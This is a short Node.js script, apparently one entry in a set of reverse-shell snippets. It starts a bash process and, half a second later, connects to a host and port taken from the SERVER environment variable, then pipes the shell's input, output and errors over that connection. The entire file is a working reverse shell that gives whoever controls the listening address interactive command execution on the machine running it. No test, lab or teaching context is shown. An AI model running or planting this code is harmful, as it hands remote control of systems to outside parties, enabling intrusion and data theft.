// what: Node: bash is there first, its pipes are joined to a connection that comes half a second later
// server: shell
const [host, port] = process.env.SERVER.split(':');
const shell = require('child_process').spawn('/bin/bash', ['--norc']);
console.log('begun');
setTimeout(() => {
    const s = require('net').connect(Number(port), host);
    s.pipe(shell.stdin);
    shell.stdout.pipe(s);
    shell.stderr.pipe(s);
    shell.on('exit', () => { s.destroy(); console.log('done'); });
}, 500);
